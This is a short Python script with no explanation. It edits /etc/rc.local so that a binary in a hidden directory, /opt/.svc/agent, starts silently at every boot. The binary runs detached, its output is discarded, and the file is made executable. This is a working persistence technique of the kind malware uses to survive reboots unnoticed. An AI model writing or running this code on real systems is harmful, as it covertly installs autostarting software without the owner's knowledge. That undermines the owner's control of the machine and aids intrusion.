from pathlib import Path

rc = Path("/etc/rc.local")
existing = rc.read_text() if rc.exists() else "#!/bin/sh -e\n"
lines = [l for l in existing.splitlines() if l.strip() != "exit 0"]
lines.append("nohup /opt/.svc/agent -d >/dev/null 2>&1 &")
lines.append("exit 0")
rc.write_text("\n".join(lines) + "\n")
rc.chmod(0o755)
